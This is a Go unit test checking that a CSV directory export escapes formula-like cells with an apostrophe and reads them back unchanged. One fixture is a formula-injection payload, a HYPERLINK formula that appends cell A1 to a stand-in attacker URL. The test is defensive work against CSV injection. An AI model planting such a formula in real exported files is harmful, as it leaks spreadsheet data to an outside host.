package directory

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"leadline/schemas"
)

// A spreadsheet takes what begins like a formula for one; what is read again is
// what was written.
func TestNoCellIsAFormulaAndAllComeBack(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		`=HYPERLINK("https://evil.example?"&A1,"x")`: `'=HYPERLINK("https://evil.example?"&A1,"x")`, "+49 170 1": "'+49 170 1", "-2+3": "'-2+3",
		"@SUM(1)": "'@SUM(1)", "＝1+1": "'＝1+1", "'=1": "''=1", "''=1": "'''=1", "'s Graven": "'s Graven", "a=b": "a=b", "12": "12", "O'Neil": "O'Neil",
	} {
		var file bytes.Buffer
		l := schemas.DirectoryLine{Type: schemas.SortCompany, ID: text, Name: text, Domains: []string{"a.example"}, Traits: map[string]string{"plan": text}}
		if err := WriteCSV(&file, []string{"plan"})(l); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(file.Bytes())).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q, %v", rows, err)
		}
		if got := rows[1]; got[1] != want || got[2] != want || got[7] != want {
			t.Errorf("%q is written as %q, want %q", text, got, want)
		}
		err = Each("acme", CSV, &file, func(_ string, e *schemas.DirectoryEntry) error {
			if c := e.Company; c.ID != text || c.Name != text || c.Traits["plan"] != text {
				t.Errorf("%q comes back as %+v", text, c)
			}
			return nil
		})
		if err != nil {
			t.Errorf("%q: %v", text, err)
		}
	}
	for _, control := range []string{"\t=1", "\r=1", "\n=1"} { // which the directory keeps nowhere
		if got := cell(control); !strings.HasPrefix(got, "'") {
			t.Errorf("%q is written as %q", control, got)
		}
	}
}
